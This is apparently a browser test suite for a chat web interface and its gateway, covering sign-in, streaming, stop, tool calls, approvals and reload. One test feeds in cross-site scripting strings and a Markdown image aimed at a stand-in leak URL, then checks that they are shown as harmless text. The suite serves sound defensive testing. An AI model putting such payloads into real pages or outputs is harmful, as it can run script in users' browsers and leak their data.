/**
 * The web chat in a real browser against a real gateway: sign-in, streaming, stop, tool calls,
 * approvals, reload, and model output that tries to run code.
 */
import assert from "node:assert/strict";
import { browserTest, gate, openWebChat, sendMessage, signIn, WEB_KEY } from "./_browser.ts";

browserTest("web chat: a wrong key is refused, the right one signs in", async () => {
  await using chat = await openWebChat();
  const { page } = chat;
  await page.getByLabel("API key").fill("not-the-key-000000000");
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.getByText("That key was not accepted").waitFor();
  await chat.screenshot("signin");
  // The system's light scheme is followed (the phone test checks dark).
  const background = await page.evaluate("getComputedStyle(document.body).backgroundColor");
  assert.equal(background, "rgb(255, 255, 255)");
  await signIn(page);
  assert.equal(await page.getByLabel("Model").inputValue(), "herald");
  // Not ticked: the key stays out of the browser's storage.
  assert.equal(await page.evaluate(() => localStorage.getItem("herald.key")), null);
});

browserTest("web chat: an answer streams in as Markdown, with a copy button on code", async () => {
  await using chat = await openWebChat();
  const { page, llm } = chat;
  await signIn(page);
  const resume = gate();
  llm.enqueue({
    text: ["Here is **bold** ", "and code:\n\n```sh\nls -la\n```\n", "Done."],
    pauseAfterChunks: 2,
    resume: resume.promise,
  });
  await sendMessage(page, "Show me a command");
  // The first piece is on screen while the upstream still holds the rest.
  const answer = page.locator(".msg.assistant").last();
  await answer.locator("strong", { hasText: "bold" }).waitFor();
  assert.doesNotMatch(await answer.innerText(), /Done\./);
  await page.getByRole("button", { name: "Stop" }).waitFor();
  resume.open();
  await answer.getByText("Done.").waitFor();
  await answer.getByRole("button", { name: "Copy code" }).waitFor();
  assert.equal((await answer.locator("pre code").innerText()).trim(), "ls -la");
  await page.getByRole("button", { name: "Send" }).waitFor();
  // The conversation got its title from the first message and is in the list.
  await page.getByRole("button", { name: "Show me a command", exact: true }).waitFor();
  await chat.screenshot("streaming");
  assert.equal(llm.requests.at(-1)!.body.messages.at(-1).content, "Show me a command");
});

browserTest("web chat: Stop aborts the turn and the upstream request", async () => {
  await using chat = await openWebChat();
  const { page, llm } = chat;
  await signIn(page);
  const never = gate();
  llm.enqueue({
    text: ["Thinking about it", " forever"],
    pauseAfterChunks: 2,
    resume: never.promise,
  });
  await sendMessage(page, "Take your time");
  await page.getByText("Thinking about it").waitFor();
  await page.getByRole("button", { name: "Stop" }).click();
  await page.getByText("Stopped.").waitFor();
  await llm.waitForCancelledStreams(1);
  await page.getByRole("button", { name: "Send" }).waitFor();
  never.open();
});

browserTest("web chat: model output with <script> and <img onerror> is shown as text", async () => {
  await using chat = await openWebChat();
  const { page, llm } = chat;
  await signIn(page);
  const evil =
    'Look: <script>window.__pwned = 1</script> and <img src=x onerror="window.__pwned = 2">' +
    "\n\n<div onclick=alert(1)>click</div>\n\n![tracker](http://127.0.0.1:9/leak?secret=1)";
  llm.enqueue({ text: evil });
  await sendMessage(page, "Say something nasty");
  const answer = page.locator(".msg.assistant").last();
  await answer.getByText("click</div>").waitFor();
  assert.match(await answer.innerText(), /<script>window\.__pwned = 1<\/script>/);
  assert.match(await answer.innerText(), /<img src=x onerror=/);
  assert.equal(
    await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned),
    undefined,
  );
  assert.equal(await page.locator("#messages img").count(), 0);
  assert.equal(await page.locator("#messages script").count(), 0);
  // The Markdown image became a plain link: nothing was loaded from its URL.
  assert.equal(await answer.getByRole("link", { name: "tracker (image)" }).count(), 1);
  await chat.screenshot("untrusted-output");
});

browserTest("web chat: a tool call appears with its arguments and output", async () => {
  await using chat = await openWebChat();
  const { page, llm } = chat;
  await signIn(page);
  await Deno.writeTextFile(`${chat.gateway.home}/workspace/notes.txt`, "pack an umbrella\n");
  llm.enqueue(
    { toolCalls: [{ name: "read_file", arguments: '{"path":"notes.txt"}' }] },
    { text: "Your notes say to pack an umbrella." },
  );
  await sendMessage(page, "What do my notes say?");
  await page.getByText("Your notes say to pack an umbrella.").waitFor();
  const tool = page.locator("details.tool").last();
  await tool.locator("summary", { hasText: "read_file" }).click();
  await tool.getByText('"path": "notes.txt"').waitFor();
  await tool.locator("pre.output", { hasText: "pack an umbrella" }).waitFor();
  assert.equal(await tool.getAttribute("data-status"), "done");
  await chat.screenshot("tool-call");
});

const ALWAYS = "approvals:\n  api_server: always\n";

browserTest("web chat: an approved call runs and the turn goes on", async () => {
  await using chat = await openWebChat({ configYaml: ALWAYS });
  const { page, llm } = chat;
  await signIn(page);
  llm.enqueue(
    { toolCalls: [{ name: "write_file", arguments: '{"path":"out.txt","content":"hello"}' }] },
    { text: "Written." },
  );
  await sendMessage(page, "Write hello to out.txt");
  const card = page.locator(".approval").last();
  await card.getByText("write_file").waitFor();
  await chat.screenshot("approval");
  await card.getByRole("button", { name: "Allow" }).click();
  await page.getByText("Written.").waitFor();
  await card.getByText("Allowed.").waitFor();
  assert.equal(await Deno.readTextFile(`${chat.gateway.home}/workspace/out.txt`), "hello");
});

browserTest("web chat: a denied call does not run and the model is told", async () => {
  await using chat = await openWebChat({ configYaml: ALWAYS });
  const { page, llm } = chat;
  await signIn(page);
  llm.enqueue(
    { toolCalls: [{ name: "write_file", arguments: '{"path":"out.txt","content":"hello"}' }] },
    { text: "Understood, I did not write it." },
  );
  await sendMessage(page, "Write hello to out.txt");
  await page.locator(".approval").last().getByRole("button", { name: "Deny" }).click();
  await page.getByText("Understood, I did not write it.").waitFor();
  const exists = await Deno.stat(`${chat.gateway.home}/workspace/out.txt`).then(
    () => true,
    () => false,
  );
  assert.equal(exists, false);
  const sent = llm.requests.at(-1)!.body.messages as { role: string; content: string }[];
  assert.match(String(sent.findLast((m) => m.role === "tool")?.content), /^denied/);
});

browserTest("web chat: an upstream failure is shown as an error", async () => {
  await using chat = await openWebChat();
  const { page, llm } = chat;
  await signIn(page);
  llm.enqueue({ status: 500, errorMessage: "the model server crashed" });
  await sendMessage(page, "Hello?");
  await page.locator(".msg.error").waitFor();
  await chat.screenshot("error");
});

browserTest("web chat: a conversation reloads after a page refresh", async () => {
  await using chat = await openWebChat();
  const { page, llm } = chat;
  await signIn(page, true);
  assert.equal(await page.evaluate(() => localStorage.getItem("herald.key")), WEB_KEY);
  llm.enqueue({ text: "First answer." });
  await sendMessage(page, "Remember this chat");
  await page.getByText("First answer.").waitFor();
  await page.getByRole("button", { name: "Send" }).waitFor();
  await page.reload();
  // Signed in from storage, the same conversation (its id is in the URL) comes back.
  await page.locator(".msg.user", { hasText: "Remember this chat" }).waitFor();
  await page.locator(".msg.assistant", { hasText: "First answer." }).waitFor();
  assert.match(page.url(), /#conv_/);
});

browserTest(
  "web chat: a pending approval survives a page refresh and can still be allowed",
  async () => {
    await using chat = await openWebChat({ configYaml: ALWAYS });
    const { page, llm } = chat;
    await signIn(page, true);
    llm.enqueue(
      { toolCalls: [{ name: "write_file", arguments: '{"path":"later.txt","content":"later"}' }] },
      { text: "Written after the reload." },
    );
    await sendMessage(page, "Write later.txt");
    await page.locator(".approval").getByRole("button", { name: "Allow" }).waitFor();
    await page.getByRole("button", { name: "Send" }).waitFor();
    await page.reload();
    // The question comes back from the stored conversation, still open.
    const card = page.locator(".approval");
    await card.getByText("later.txt").waitFor();
    await card.getByRole("button", { name: "Allow" }).click();
    await page.getByText("Written after the reload.").waitFor();
    assert.equal(await Deno.readTextFile(`${chat.gateway.home}/workspace/later.txt`), "later");
  },
);
